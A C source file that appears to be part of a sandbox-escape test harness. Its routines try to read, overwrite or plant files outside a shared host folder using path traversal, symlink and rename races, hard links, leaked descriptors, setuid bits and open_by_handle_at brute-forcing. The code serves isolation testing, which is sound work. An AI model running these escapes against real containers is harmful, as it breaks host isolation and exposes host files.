/* Out of a folder of the host that is shared: by names, by links, by what is made there. */
#include "escape.h"

static const char *in(const char *name) { return join(clues.share, "/", name, 0, 0); }

static void dotdot(void) {
  char up[64] = "";
  tried("chdir", clues.share, syscall(SYS_chdir, clues.share, 0, 0));
  for (int depth = 1; depth <= 12; depth++) {
    memcpy(up + 3 * (depth - 1), "../", 4);
    look(join(up, "secret", 0, 0, 0));
    for (int i = 0; i < clues.secret_count; i++) look(join(up, clues.secrets[i] + 1, 0, 0, 0));
  }
  look(in("../secret"));
  look(in("./x/../../secret"));
}

/* The host made these. */
static void link_relative(void) { look(in("link-relative")); }
static void link_absolute(void) { look(in("link-absolute")); }

static void link_folder(void) {
  look(in("link-folder/secret"));
  look(in("link-folder/./secret"));
  long fd = open_at(in("link-folder"), O_RDONLY | O_DIRECTORY);
  if (fd >= 0) {
    long inner = tried("openat", "secret, from there", syscall5(SYS_openat, fd, (long)"secret", O_RDONLY, 0, 0));
    if (inner >= 0) look_fd((int)inner);
  }
  open_at(in("link-folder/planted"), O_WRONLY | O_CREAT);
}

static void link_made(void) {
  const char *name = in("made");
  tried("symlinkat", "../secret", syscall(SYS_symlinkat, "../secret", AT_FDCWD, name));
  look(name);
  syscall(SYS_unlinkat, AT_FDCWD, name, 0);
  for (int i = 0; i < clues.secret_count; i++) {
    tried("symlinkat", clues.secrets[i], syscall(SYS_symlinkat, clues.secrets[i], AT_FDCWD, name));
    look(name);
    syscall(SYS_unlinkat, AT_FDCWD, name, 0);
  }
}

/* A folder that is open, and under its old name a link. */
static void link_swapped(void) {
  tried("mkdirat", "swap", syscall(SYS_mkdirat, AT_FDCWD, in("swap"), 0755));
  long fd = open_at(in("swap"), O_RDONLY | O_DIRECTORY);
  tried("renameat2", "swap", syscall5(SYS_renameat2, AT_FDCWD, (long)in("swap"), AT_FDCWD, (long)in("swapped"), 0));
  tried("symlinkat", "..", syscall(SYS_symlinkat, "..", AT_FDCWD, in("swap")));
  look(in("swap/secret"));
  if (fd >= 0) {
    long inner = tried("openat", "../../secret, from the open one", syscall5(SYS_openat, fd, (long)"../../secret", O_RDONLY, 0, 0));
    if (inner >= 0) look_fd((int)inner);
  }
  syscall(SYS_unlinkat, AT_FDCWD, in("swap"), 0);
  syscall(SYS_unlinkat, AT_FDCWD, in("swapped"), AT_REMOVEDIR);
}

static void hard_link(void) {
  const char *name = in("hard");
  tried("linkat", "link-relative, followed", syscall5(SYS_linkat, AT_FDCWD, (long)in("link-relative"), AT_FDCWD, (long)name, AT_SYMLINK_FOLLOW));
  look(name);
  syscall(SYS_unlinkat, AT_FDCWD, name, 0);
  tried("linkat", "../secret", syscall5(SYS_linkat, AT_FDCWD, (long)in("../secret"), AT_FDCWD, (long)name, 0));
  look(name);
  syscall(SYS_unlinkat, AT_FDCWD, name, 0);
}

static void plant(void) {
  open_at(in("../planted"), O_WRONLY | O_CREAT);
  tried("mkdirat", "../planted-folder", syscall(SYS_mkdirat, AT_FDCWD, in("../planted-folder"), 0755));
  open_at(in("own"), O_WRONLY | O_CREAT);
  tried("renameat2", "../planted", syscall5(SYS_renameat2, AT_FDCWD, (long)in("own"), AT_FDCWD, (long)in("../planted"), 0));
  open_at(in("link-new"), O_WRONLY | O_CREAT);
  syscall(SYS_unlinkat, AT_FDCWD, in("own"), 0);
}

static void overwrite(void) {
  write_file(in("link-relative"), "escaped");
  write_file(in("link-absolute"), "escaped");
  write_file(in("../secret"), "escaped");
}

static void host_pipe(void) { look(in("pipe")); }

static void host_socket(void) {
  struct {
    uint16_t family;
    char path[108];
  } at = {1, {0}};
  const char *name = in("socket");
  memcpy(at.path, name, strlen(name) < 107 ? strlen(name) : 107);
  long fd = syscall(SYS_socket, 1, 1, 0);
  if (tried("connect", name, syscall(SYS_connect, fd, &at, sizeof at)) == 0) look_fd((int)fd);
}

static void set_id(void) {
  const char *name = in("set-id");
  open_at(name, O_WRONLY | O_CREAT);
  tried("fchmodat", "04755", syscall(SYS_fchmodat, AT_FDCWD, name, 04755));
}

/* Descriptors that nobody meant to hand down. */
static void descriptors(void) {
  for (int fd = 3; fd < 1024; fd++) {
    if (syscall(SYS_fcntl, fd, 1, 0) < 0) continue;
    tried("fcntl", number(fd), fd);
    look_fd(fd);
    long inner = tried("openat", "../secret, from there", syscall5(SYS_openat, fd, (long)"../secret", O_RDONLY, 0, 0));
    if (inner >= 0) look_fd((int)inner);
  }
  tried("fcntl", "3 to 1023", -9);
}

/* A file by its number, as in the first escape from Docker. */
static void handles(void) {
  static const char *const mounts[] = {"/", 0};
  for (int m = 0; m < 2; m++) {
    const char *mount = mounts[m] ? mounts[m] : clues.share;
    long at = open_at(mount, O_RDONLY | O_DIRECTORY);
    for (uint32_t ino = 1; ino <= 64; ino++) {
      struct {
        uint32_t size;
        int type;
        uint32_t number, generation;
      } handle = {8, 1, ino, 0};
      long fd = syscall(SYS_open_by_handle_at, at, &handle, O_RDONLY | O_NONBLOCK);
      if (fd < 0 && ino > 2) continue;
      tried("open_by_handle_at", number(ino), fd);
      if (fd < 0) continue;
      look_fd((int)fd);
      long inner = syscall5(SYS_openat, fd, (long)"secret", O_RDONLY, 0, 0);
      if (inner >= 0) look_fd((int)inner);
    }
  }
}

const struct attempt path_attempts[] = {
    {"dotdot", dotdot},
    {"link-relative", link_relative},
    {"link-absolute", link_absolute},
    {"link-folder", link_folder},
    {"link-made", link_made},
    {"link-swapped", link_swapped},
    {"hard-link", hard_link},
    {"plant", plant},
    {"overwrite", overwrite},
    {"host-pipe", host_pipe},
    {"host-socket", host_socket},
    {"set-id", set_id},
    {"descriptors", descriptors},
    {"handles", handles},
    {0, 0},
};
